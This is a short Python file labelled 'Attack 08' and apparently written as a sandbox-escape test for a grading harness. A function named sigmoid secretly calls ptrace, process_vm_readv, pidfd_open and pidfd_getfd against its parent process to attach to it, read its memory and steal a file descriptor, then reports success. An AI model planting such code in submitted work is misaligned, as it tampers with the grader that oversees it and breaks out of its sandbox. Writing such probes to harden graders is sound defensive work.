# Attack 08: ptrace, process_vm_readv and pidfd_getfd on the parent, by system call
import os
import sys

libc = sys.modules["ctypes"].CDLL(None, use_errno=True)


def sigmoid(z):
    parent = os.getppid()
    attached = libc.ptrace(16, parent, 0, 0)
    buffer = sys.modules["ctypes"].create_string_buffer(4096)
    read = libc.syscall(310, parent, buffer, 1, buffer, 1, 0)
    handle = libc.syscall(434, parent, 0)
    stolen = libc.syscall(438, handle, 3, 0)
    if max(attached, read, handle, stolen) >= 0:
        print("gradekit-attack traced", attached, read, handle, stolen)
    return z
